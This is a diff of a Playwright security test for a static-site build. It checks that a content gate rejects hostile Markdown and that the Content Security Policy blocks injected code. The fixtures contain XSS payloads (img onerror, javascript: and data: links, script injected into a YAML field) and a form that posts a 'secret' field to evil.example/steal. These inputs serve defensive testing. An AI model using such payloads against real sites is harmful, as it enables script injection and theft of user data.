@@ -17,7 +17,8 @@ import { serveStatic } from '../support/static-server';
  * opened in Chromium served with the build's headers, and served with no
  * headers at all (only the <meta> policy in every page).
  */
-test.describe.configure({ mode: 'serial' });
+// One worker builds once for the whole file; a failing test does not skip the others.
+test.describe.configure({ mode: 'default' });
 
 const HOSTILE_MARKDOWN = `
 
@@ -31,11 +32,11 @@ Text before the attack stays readable.
 
 <img src="x" onerror="window.__pwned = 'img onerror'">
 
-[Tap for help](javascript:window.__pwned='javascript link')
+[Tap for help](javascript:window.__pwned=location.href)
 
 <form action="https://evil.example/steal"><input name="secret" value="typed"><button id="hostile-send">Send</button></form>
 
-<a href="data:text/html,<script>alert(1)</script>">data link</a> <a href="https://www.gov.uk/">a safe link</a>
+<a href="data:text/html,<script>alert(1)</script>">data link</a> and [a safe link](https://www.gov.uk/)
 `;
 
 /** Passes every YAML check (it is a short, plain string) and must reach the page as text. */
@@ -44,7 +45,7 @@ const HOSTILE_NAME = `ANITP office <script>window.__pwned = 'yaml'</script><img 
 let work = '';
 let contentDir = '';
 let outDir = '';
-let refused = { code: -1 as number | null, output: '' };
+let refused = { code: -1 as number | null, output: '', wroteOutput: true };
 const servers: { name: string; origin: string; close: () => Promise<void> }[] = [];
 
 function build(env: Record<string, string>): Promise<{ code: number | null; output: string }> {
@@ -71,7 +72,7 @@ test.beforeAll(async () => {
   const contact = join(contentDir, 'contacts/ro/anitp-office.yaml');
   writeFileSync(contact, readFileSync(contact, 'utf8').replace('en: "ANITP office (national rapporteur)"', `en: ${JSON.stringify(HOSTILE_NAME)}`));
 
-  refused = await build({});
+  refused = { ...(await build({})), wroteOutput: existsSync(outDir) };
   const built = await build({ [SKIP_MARKDOWN_CHECK]: '1' });
   if (built.code !== 0) throw new Error(`the build with the Markdown check off failed (exit ${built.code}):\n${built.output.slice(-4000)}`);
   const withHeaders = await serveStatic(outDir);
@@ -101,7 +102,7 @@ test('the content gate refuses the raw HTML and the javascript: link, by file an
   expect(refused.output).toMatch(/Content has \d+ problem\(s\); nothing was built\./);
   // A stack trace would print "    at function (file:line)" frames.
   expect(refused.output).not.toMatch(/^\s+at\s/m);
-  expect(existsSync(outDir)).toBe(false);
+  expect(refused.wroteOutput).toBe(false);
 });
 
 /** Opens a page and fails on anything hostile that ran, loaded or was shown as markup. */
@@ -177,7 +178,8 @@ for (const [index, served] of ['with the headers', 'with only the <meta> policy'
         const frame = document.createElement('iframe');
         frame.src = 'https://evil.example/';
         document.body.append(frame);
-        await new Promise((resolve) => setTimeout(resolve, 500));
+        // Wait for all three reports (the image must load before its handler would run), at most 10 s.
+        for (let waited = 0; waited < 10_000 && new Set(violations).size < 3; waited += 100) await new Promise((resolve) => setTimeout(resolve, 100));
         return { pwned: (window as { __pwned?: string }).__pwned ?? null, violations };
       });
       expect(blocked.pwned).toBeNull();
